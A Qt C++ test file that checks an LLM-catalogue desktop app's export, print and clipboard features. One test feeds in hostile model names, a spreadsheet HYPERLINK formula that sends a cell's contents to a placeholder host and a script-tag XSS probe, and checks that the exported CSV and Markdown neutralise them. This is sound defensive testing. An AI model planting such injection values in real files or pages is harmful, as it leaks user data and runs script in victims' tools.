// The window's ways out: File > Export (the dialog and the file chooser answered by test hooks), Print with
// its preview, the clipboard copies, and the tier overview tab that follows the tier table's filter.
#include "app/gui/exportactions.h"
#include "app/gui/mainwindow.h"
#include "models/document/atlasdocument.h"
#include "models/document/filesaver.h"
#include "models/itemmodels/recordtablemodel.h"
#include "models/itemmodels/tierfilterproxymodel.h"
#include "models/itemmodels/tiertablemodel.h"
#include "hostilenames.h"
#include "models/document/importer.h"
#include "testsupport.h"
#include "views/dialogs/dialogs.h"
#include "views/dialogs/exportdialog.h"
#include "views/pages/tierbrowser.h"

#include <QAction>
#include <QBarCategoryAxis>
#include <QChart>
#include <QChartView>
#include <QClipboard>
#include <QComboBox>
#include <QDoubleSpinBox>
#include <QGuiApplication>
#include <QImage>
#include <QJsonArray>
#include <QJsonDocument>
#include <QRegularExpression>
#include <QLineEdit>
#include <QMimeData>
#include <QPrintPreviewDialog>
#include <QPrintPreviewWidget>
#include <QProgressDialog>
#include <QPushButton>
#include <QSettings>
#include <QSpinBox>
#include <QStatusBar>
#include <QStandardPaths>
#include <QTabWidget>
#include <QTableView>
#include <QTest>

#include <algorithm>
#include <QTimer>
#include <QUndoStack>
#include <QXmlStreamReader>

#include <memory>

class TestExportWindow : public QObject
{
    Q_OBJECT

private:
    BundledDatabaseFile m_file;
    std::unique_ptr<AtlasDocument> m_document;
    std::unique_ptr<MainWindow> m_window;
    QTemporaryDir m_out;

    template <typename T> T *child(const char *name) const
    {
        T *object = m_window->findChild<T *>(QString::fromLatin1(name));
        if (!object)
            qFatal("no child %s", name);
        return object;
    }
    QAction *action(const char *name) const { return child<QAction>(name); }
    void showTab(const QString &text) const
    {
        auto *tabs = child<QTabWidget>("mainTabs");
        for (int i = 0; i < tabs->count(); ++i) {
            if (tabs->tabText(i).remove(QLatin1Char('&')) == text) {
                tabs->setCurrentIndex(i);
                return;
            }
        }
        qFatal("no tab %s", qPrintable(text));
    }
    QAbstractItemModel *tierTable() const { return m_window->findChild<TierBrowser *>()->proxy(); }

    // Answers the export dialog with a choice and the file chooser with a path.
    static void answerExport(ExportDialog::Choice choice, const QString &path)
    {
        Dialogs::setExecHook([choice](QDialog *dialog) {
            auto *exportDialog = qobject_cast<ExportDialog *>(dialog);
            if (!exportDialog)
                return int(QDialog::Rejected);
            exportDialog->setChoice(choice);
            return int(QDialog::Accepted);
        });
        Dialogs::setSaveFileNameHook([path] { return path; });
    }

    static QStringList svgTexts(const QByteArray &svg)
    {
        QStringList texts;
        QXmlStreamReader xml(svg);
        while (!xml.atEnd()) {
            if (xml.readNext() == QXmlStreamReader::StartElement && xml.name() == QLatin1String("text"))
                texts << xml.readElementText(QXmlStreamReader::IncludeChildElements);
        }
        return texts;
    }

private slots:
    void initTestCase()
    {
        QStandardPaths::setTestModeEnabled(true);
        QSettings().clear();
        QVERIFY(m_file.isValid() && m_out.isValid());
        m_document = std::make_unique<AtlasDocument>();
        QVERIFY2(m_document->open(m_file.path()), qPrintable(m_document->errorString()));
        m_window = std::make_unique<MainWindow>(m_document.get());
        m_window->resize(1280, 800);
        m_window->show();
        QVERIFY(QTest::qWaitForWindowExposed(m_window.get()));
    }

    // An error dialog no test expects fails that test.
    void init()
    {
        Dialogs::setErrorHook([](const QString &title, const QString &message) {
            QFAIL(qPrintable(title + QStringLiteral(": ") + message));
        });
    }

    void cleanup() { Dialogs::resetHooks(); }

    void cleanupTestCase()
    {
        m_window.reset();
        m_document.reset();
    }

    void menusOfferExportPrintAndCopies()
    {
        QCOMPARE(action("exportAction")->shortcut(), QKeySequence(Qt::CTRL | Qt::Key_E));
        QCOMPARE(action("printAction")->shortcut(), QKeySequence(QKeySequence::Print));
        showTab(QStringLiteral("Data audit"));
        QVERIFY(!action("copyChartAction")->isEnabled()); // a table, no chart
        QVERIFY(action("copyMarkdownAction")->isEnabled());
        showTab(QStringLiteral("VRAM fit"));
        QVERIFY(action("copyChartAction")->isEnabled());
        QVERIFY(action("printAction")->isEnabled());
        showTab(QStringLiteral("Cost"));
        QVERIFY(action("copyChartAction")->isEnabled());
        QVERIFY(action("copyCsvAction")->isEnabled()); // the options table
    }

    void tierOverviewFollowsTheTableFilter()
    {
        showTab(QStringLiteral("Tier overview"));
        auto *chartView = child<QChartView>("tierChart");
        const auto categories = [chartView] {
            return qobject_cast<QBarCategoryAxis *>(chartView->chart()->axes(Qt::Vertical).constFirst())->categories();
        };
        // The table's first rows, top-down, as many as the plot can name; the title says there are more.
        const int all = tierTable()->rowCount();
        const qsizetype shown = categories().size();
        QVERIFY(shown >= 8 && shown <= all);
        for (qsizetype i = 0; i < shown; ++i) {
            const QString name = tierTable()->index(int(i), TierTableModel::Name).data().toString();
            QVERIFY2(categories().at(shown - 1 - i).contains(name.toHtmlEscaped()), qPrintable(name));
        }
        if (shown < all)
            QVERIFY2(chartView->chart()->title().contains(QStringLiteral(" of %1 rows").arg(all)),
                     qPrintable(chartView->chart()->title()));
        auto *proxy = m_window->findChild<TierBrowser *>()->proxy();
        proxy->setTier(QStringLiteral("S"));
        QCOMPARE(categories().size(), proxy->rowCount());
        QVERIFY(categories().size() < 8);
        proxy->setTier(QString());
        QCOMPARE(categories().size(), shown);
    }

    void copyTableAsMarkdownAndCsv()
    {
        showTab(QStringLiteral("Models"));
        action("copyMarkdownAction")->trigger();
        const QString markdown = QGuiApplication::clipboard()->text();
        QCOMPARE(markdown.toUtf8(), TableWriter::write(*tierTable(), TableWriter::Format::Markdown));
        QVERIFY(markdown.startsWith(QStringLiteral("| # | Tier | Model |")));
        action("copyCsvAction")->trigger();
        const QMimeData *mime = QGuiApplication::clipboard()->mimeData();
        QVERIFY(mime->hasFormat(QStringLiteral("text/csv")));
        QCOMPARE(mime->data(QStringLiteral("text/csv")), TableWriter::write(*tierTable(), TableWriter::Format::Csv));
        QVERIFY(mime->text().startsWith(QStringLiteral("rank,tier,name,")));
    }

    // Issue 24: hostile names imported as the window imports a colleague's file, then copied. The CSV on
    // the clipboard starts no formula and reads back unchanged; the Markdown holds no markup.
    // (tst_hostilenames exports the same fixture every other way, through the command line.)
    void copyTableOfHostileNames()
    {
        const QList<std::pair<Importer::Kind, QByteArray>> files{{Importer::Kind::Models, HostileNames::modelsFile()},
                                                                 {Importer::Kind::Tiers, HostileNames::tiersFile()}};
        for (const auto &[kind, data] : files) {
            const Importer::Preview preview =
                Importer::preview(m_document->dataset(), data, TableWriter::Format::Json, kind);
            QVERIFY2(preview.canApply(), qPrintable(preview.report().left(2000)));
            QVERIFY(m_document->applyChanges(preview.changes, QStringLiteral("Import")));
        }
        showTab(QStringLiteral("Models"));
        auto *proxy = m_window->findChild<TierBrowser *>()->proxy();
        proxy->setTier(QString());

        action("copyCsvAction")->trigger();
        const QByteArray csv = QGuiApplication::clipboard()->mimeData()->data(QStringLiteral("text/csv"));
        const QList<QStringList> records = HostileNames::csvRecords(QString::fromUtf8(csv));
        QStringList names;
        for (const QStringList &record : records.mid(1)) {
            for (const QString &cell : record) {
                bool number = false;
                cell.toDouble(&number);
                QVERIFY2(number || !HostileNames::startsFormula(cell), qPrintable(cell.left(80)));
            }
            names << record.value(records.first().indexOf(QStringLiteral("name")));
        }
        QVERIFY(names.contains(QStringLiteral("'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")));
        QVERIFY(names.contains(QStringLiteral("<script>alert(1)</script>Evil 8B")));
        const Importer::Preview back =
            Importer::preview(m_document->dataset(), csv, TableWriter::Format::Csv, Importer::Kind::Models);
        QVERIFY2(back.error.isEmpty() && back.added.isEmpty() && back.changed.isEmpty() && back.rejected.isEmpty(),
                 qPrintable(back.report().left(2000)));

        action("copyMarkdownAction")->trigger();
        const QString markdown = QGuiApplication::clipboard()->text();
        QVERIFY(markdown.contains(QStringLiteral("&lt;script&gt;alert(1)&lt;/script&gt;Evil 8B")));
        QVERIFY(!markdown.contains(QLatin1Char('<')) && !markdown.contains(QLatin1Char('>')));

        // The other tests see the bundled data again.
        m_document->undoStack()->undo();
        m_document->undoStack()->undo();
        QVERIFY(!m_document->undoStack()->canUndo());
    }

    void copyChartAsImage()
    {
        showTab(QStringLiteral("VRAM fit"));
        QGuiApplication::clipboard()->clear();
        action("copyChartAction")->trigger();
        const QImage image = QGuiApplication::clipboard()->image();
        QVERIFY(!image.isNull());
        QVERIFY(image.width() >= 640 && image.height() >= 400);
        QVERIFY(image.pixel(image.width() / 2, image.height() / 2) != image.pixel(1, 1)
                || image.pixel(image.width() / 3, image.height() / 3) != image.pixel(1, 1));
    }

    void exportChartRemembersFolderAndFormat()
    {
        showTab(QStringLiteral("VRAM fit"));
        const QString title = child<QChartView>("vramFitChart")->chart()->title();
        // No extension typed: the chosen format's is added.
        answerExport({ExportDialog::Subject::Chart, QStringLiteral("svg"), QSize(900, 560), 1},
                     m_out.filePath(QStringLiteral("fit")));
        action("exportAction")->trigger();
        const QString path = m_out.filePath(QStringLiteral("fit.svg"));
        QVERIFY(QFile::exists(path));
        // The export's own size names its own number of rows; the rest of the title is the view's.
        const QString titleBeforeRows = title.section(QStringLiteral(" — first "), 0, 0);
        const QStringList texts = svgTexts(fileBytes(path));
        QVERIFY2(std::any_of(texts.cbegin(), texts.cend(),
                             [&](const QString &text) { return text.startsWith(titleBeforeRows); }),
                 qPrintable(texts.join(QLatin1Char('|'))));
        QCOMPARE(child<QChartView>("vramFitChart")->chart()->title(), title); // the view keeps its chart

        QSettings settings;
        QCOMPARE(settings.value(QStringLiteral("export/lastFolder")).toString(), m_out.path());
        // The next time, the dialog opens on the last choices.
        ExportDialog::Choice offered;
        Dialogs::setExecHook([&offered](QDialog *dialog) {
            offered = qobject_cast<ExportDialog *>(dialog)->choice();
            return int(QDialog::Rejected);
        });
        action("exportAction")->trigger();
        QCOMPARE(int(offered.subject), int(ExportDialog::Subject::Chart));
        QCOMPARE(offered.format, QStringLiteral("svg"));
        QCOMPARE(offered.size, QSize(900, 560));
    }

    // Issue 22: choosing SVG opened a save dialog whose selected filter was "PNG files".
    void saveDialogFilterFollowsTheFormat()
    {
        showTab(QStringLiteral("VRAM fit"));
        for (const char *format : {"svg", "pdf", "png"}) {
            const QString suffix = QLatin1String(format);
            answerExport({ExportDialog::Subject::Chart, suffix, QSize(900, 560), 1}, QString());
            QString offeredFile;
            QString offeredFilter;
            Dialogs::setSaveFileNameFilterHook([&](const QString &file, const QString &filter) {
                offeredFile = file;
                offeredFilter = filter;
                return QString(); // cancelled
            });
            action("exportAction")->trigger();
            QVERIFY2(offeredFile.endsWith(QLatin1Char('.') + suffix), qPrintable(offeredFile));
            QVERIFY2(offeredFilter.startsWith(QStringLiteral("%1 files (*.%2)").arg(suffix.toUpper(), suffix)),
                     qPrintable(offeredFilter));
        }
    }

    void exportDialogOffersFormatsBySubject()
    {
        ExportDialog dialog(QStringLiteral("VRAM fit"), QStringLiteral("VRAM fit"));
        auto *subject = dialog.findChild<QComboBox *>(QStringLiteral("exportSubjectCombo"));
        auto *format = dialog.findChild<QComboBox *>(QStringLiteral("exportFormatCombo"));
        auto *scale = dialog.findChild<QDoubleSpinBox *>(QStringLiteral("exportScaleSpin"));
        QCOMPARE(subject->count(), 3);
        const auto formats = [format] {
            QStringList list;
            for (int i = 0; i < format->count(); ++i)
                list << format->itemData(i).toString();
            return list;
        };
        subject->setCurrentIndex(subject->findData(int(ExportDialog::Subject::Table)));
        QCOMPARE(formats(), (QStringList{QStringLiteral("csv"), QStringLiteral("json"), QStringLiteral("md")}));
        subject->setCurrentIndex(subject->findData(int(ExportDialog::Subject::Report)));
        QCOMPARE(formats(), (QStringList{QStringLiteral("pdf"), QStringLiteral("html")}));
        subject->setCurrentIndex(subject->findData(int(ExportDialog::Subject::Chart)));
        format->setCurrentIndex(format->findData(QStringLiteral("png")));
        QVERIFY(scale->isEnabled());
        format->setCurrentIndex(format->findData(QStringLiteral("svg")));
        QVERIFY(!scale->isEnabled()); // vectors have no pixels
        // A page without a chart offers its table and the report only.
        ExportDialog tableOnly(QString(), QStringLiteral("Data audit"));
        QCOMPARE(tableOnly.findChild<QComboBox *>(QStringLiteral("exportSubjectCombo"))->count(), 2);
        tableOnly.setChoice({ExportDialog::Subject::Chart, QStringLiteral("png"), QSize(800, 500), 2});
        QCOMPARE(int(tableOnly.choice().subject), int(ExportDialog::Subject::Table));
    }

    void exportTableRoundTrips()
    {
        showTab(QStringLiteral("Models"));
        auto *proxy = m_window->findChild<TierBrowser *>()->proxy();
        proxy->setTier(QStringLiteral("A"));
        answerExport({ExportDialog::Subject::Table, QStringLiteral("json"), QSize(), 1},
                     m_out.filePath(QStringLiteral("tiers.json")));
        action("exportAction")->trigger();
        const QJsonArray rows = QJsonDocument::fromJson(fileBytes(m_out.filePath(QStringLiteral("tiers.json")))).array();
        QCOMPARE(rows.size(), proxy->rowCount()); // the filter applies
        for (int row = 0; row < proxy->rowCount(); ++row) {
            QCOMPARE(rows.at(row)[QStringLiteral("name")].toString(),
                     proxy->index(row, TierTableModel::Name).data(RecordTableModel::RawValueRole).toString());
            QCOMPARE(rows.at(row)[QStringLiteral("total_params")].toInteger(),
                     proxy->index(row, TierTableModel::TotalParams).data(RecordTableModel::RawValueRole).toLongLong());
        }
        proxy->setTier(QString());
    }

    void exportReport()
    {
        answerExport({ExportDialog::Subject::Report, QStringLiteral("pdf"), QSize(), 1},
                     m_out.filePath(QStringLiteral("report.pdf")));
        action("exportAction")->trigger();
        const QByteArray pdf = fileBytes(m_out.filePath(QStringLiteral("report.pdf")));
        QVERIFY(pdf.startsWith("%PDF-"));
        static const QRegularExpression page(QStringLiteral("/Type\\s*/Page(?![a-zA-Z])"));
        QVERIFY(QString::fromLatin1(pdf).count(page) >= 3);

        answerExport({ExportDialog::Subject::Report, QStringLiteral("pdf"), QSize(), 1},
                     m_out.filePath(QStringLiteral("report.html"))); // the typed extension wins
        action("exportAction")->trigger();
        const QByteArray html = fileBytes(m_out.filePath(QStringLiteral("report.html")));
        QCOMPARE(html.count("<svg "), 3); // fit, cost and tier charts, inline
        QVERIFY(html.contains("Cost against volume"));
    }

    // The report is laid out and painted on a worker behind a progress dialog; its Cancel button stops it
    // and leaves the file that was there.
    void cancelledReportLeavesTheFileAsItWas()
    {
        const QString path = m_out.filePath(QStringLiteral("kept.pdf"));
        QVERIFY(FileSaver::save(path, "the report written last week", nullptr));
        bool sawProgress = false;
        QTimer cancel;
        cancel.setInterval(1);
        connect(&cancel, &QTimer::timeout, m_window.get(), [&] {
            auto *progress = m_window->findChild<QProgressDialog *>(QStringLiteral("backgroundTaskProgress"));
            if (!progress || !progress->isVisible())
                return;
            sawProgress = true;
            cancel.stop();
            auto *button = progress->findChild<QPushButton *>();
            QVERIFY(button);
            QTest::mouseClick(button, Qt::LeftButton);
        });
        cancel.start();
        answerExport({ExportDialog::Subject::Report, QStringLiteral("pdf"), QSize(), 1}, path);
        action("exportAction")->trigger();
        QVERIFY(sawProgress);
        QCOMPARE(fileBytes(path), QByteArray("the report written last week"));
        QCOMPARE(m_window->statusBar()->currentMessage(), QStringLiteral("Export cancelled"));
    }

    void failedExportSaysWhyAndWritesNothing()
    {
        QString shown;
        Dialogs::setErrorHook([&shown](const QString &, const QString &message) { shown = message; });
        showTab(QStringLiteral("VRAM fit"));
        QTemporaryDir dir;
        answerExport({ExportDialog::Subject::Chart, QStringLiteral("png"), QSize(800, 500), 1},
                     dir.filePath(QStringLiteral("missing/fit.png")));
        action("exportAction")->trigger();
        QVERIFY2(shown.contains(QStringLiteral("Cannot write")), qPrintable(shown));
        QVERIFY(QDir(dir.path()).isEmpty());
    }

    void printPreviewPaintsThePage()
    {
        for (const QString &tab : {QStringLiteral("VRAM fit"), QStringLiteral("Data audit")}) {
            showTab(tab);
            int pages = 0;
            QString title;
            Dialogs::setExecHook([&pages, &title](QDialog *dialog) {
                auto *preview = qobject_cast<QPrintPreviewDialog *>(dialog);
                if (!preview)
                    return int(QDialog::Rejected);
                title = preview->windowTitle();
                auto *widget = preview->findChild<QPrintPreviewWidget *>();
                widget->updatePreview();
                pages = widget->pageCount();
                return int(QDialog::Rejected);
            });
            action("printAction")->trigger();
            QVERIFY2(pages >= 1, qPrintable(tab));
            QVERIFY(title.contains(tab));
        }
    }

    // Set LLM_ATLAS_SCREENSHOTS to a folder to look at the tab and the dialogs.
    void screenshots()
    {
        const QString folder = qEnvironmentVariable("LLM_ATLAS_SCREENSHOTS");
        if (folder.isEmpty())
            QSKIP("LLM_ATLAS_SCREENSHOTS is not set");
        showTab(QStringLiteral("Tier overview"));
        QCoreApplication::processEvents();
        QVERIFY(m_window->grab().save(folder + QStringLiteral("/window-tier-overview.png")));
        ExportDialog dialog(QStringLiteral("VRAM fit"), QStringLiteral("VRAM fit"), m_window.get());
        dialog.show();
        QVERIFY(QTest::qWaitForWindowExposed(&dialog));
        QVERIFY(dialog.grab().save(folder + QStringLiteral("/export-dialog.png")));
        showTab(QStringLiteral("VRAM fit"));
        Dialogs::setExecHook([&folder](QDialog *dialog) {
            dialog->resize(1000, 760);
            dialog->show();
            QCoreApplication::processEvents();
            dialog->grab().save(folder + QStringLiteral("/print-preview.png"));
            return int(QDialog::Rejected);
        });
        action("printAction")->trigger();
    }
};

QTEST_MAIN(TestExportWindow)
#include "tst_exportwindow.moc"
